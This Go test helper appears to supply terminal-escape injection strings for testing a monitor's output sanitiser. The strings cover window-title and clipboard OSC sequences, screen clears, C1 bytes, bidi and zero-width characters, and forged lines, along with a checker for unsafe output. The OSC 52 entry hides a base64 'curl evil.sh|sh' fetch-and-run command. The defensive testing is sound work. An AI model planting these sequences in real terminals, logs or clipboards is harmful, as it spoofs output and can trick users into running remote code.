// Package termsafetest holds the terminal attacks the tests of the monitor
// and the queue manager plant in Redis or send over TCP, and the check
// that none of them reached an output.
package termsafetest

import (
	"fmt"
	"strings"
	"unicode/utf8"

	"github.com/multcall/dialbridge/monitor/termsafe"
)

// Forged is the text the attacks try to show at the start of a line of
// its own (after a box's border, on a screen).
const Forged = "FORGED"

// Attacks are strings an attacker can plant anywhere text is read from
// (call and operator ids, error texts, host names, log messages).
var Attacks = map[string]string{
	"window title (OSC 0)":  "a\x1b]0;pwned\x07b",
	"window title (OSC 2)":  "a\x1b]2;pwned\x1b\\b",
	"clear screen (CSI 2J)": "a\x1b[2J\x1b[Hb",
	"clipboard (OSC 52)":    "a\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07b",
	"bare CR forges a line": "a\r" + Forged + " Call 7 answered by operator A",
	"LF forges a line":      "a\n" + Forged + " Call 7 answered by operator A",
	"bell":                  "a\x07\x07b",
	"C1 CSI (UTF-8)":        "a\u009b2Jb",
	"C1 OSC, raw byte":      "a\x9d0;pwned\x9cb",
	"bidi override (Cf)":    "a\u202egnp.exe\u202cb",
	"bidi isolate (Cf)":     "a\u2067x\u2069b",
	"zero-width (Cf)":       "a\u200b\u200d\ufeffb",
	"tag characters (Cf)":   "a\U000e0041\U000e007fb",
	"line separator":        "a\u2028" + Forged + "b",
	"backspace and DEL":     "abc\b\b\x7fd",
	"NUL and invalid UTF-8": "a\x00\xff\xfeb",
	"8-bit CSI, raw byte":   "a\x9b2Jb",
}

// Unsafe describes the first character of out a terminal would act on
// (newlines excepted: outputs are made of lines), or a line that starts
// with Forged, or returns "".
func Unsafe(out string) string {
	return check(out, true)
}

// Raw is Unsafe without the look for Forged: for text from which unsafe
// characters were dropped rather than escaped.
func Raw(out string) string {
	return check(out, false)
}

func check(out string, forged bool) string {
	for n, line := range strings.Split(out, "\n") {
		if i := termsafe.FirstUnsafe(line); i >= 0 {
			r, size := utf8.DecodeRuneInString(line[i:])
			what := fmt.Sprintf("%U", r)
			if r == utf8.RuneError && size == 1 {
				what = fmt.Sprintf("byte %#x", line[i])
			}
			return fmt.Sprintf("line %d: raw %s at byte %d: %q", n+1, what, i, line[max(0, i-20):min(len(line), i+12)])
		}
		if forged && strings.HasPrefix(strings.TrimLeft(line, " │"), Forged) {
			return fmt.Sprintf("line %d: forged: %q", n+1, line)
		}
	}
	return ""
}
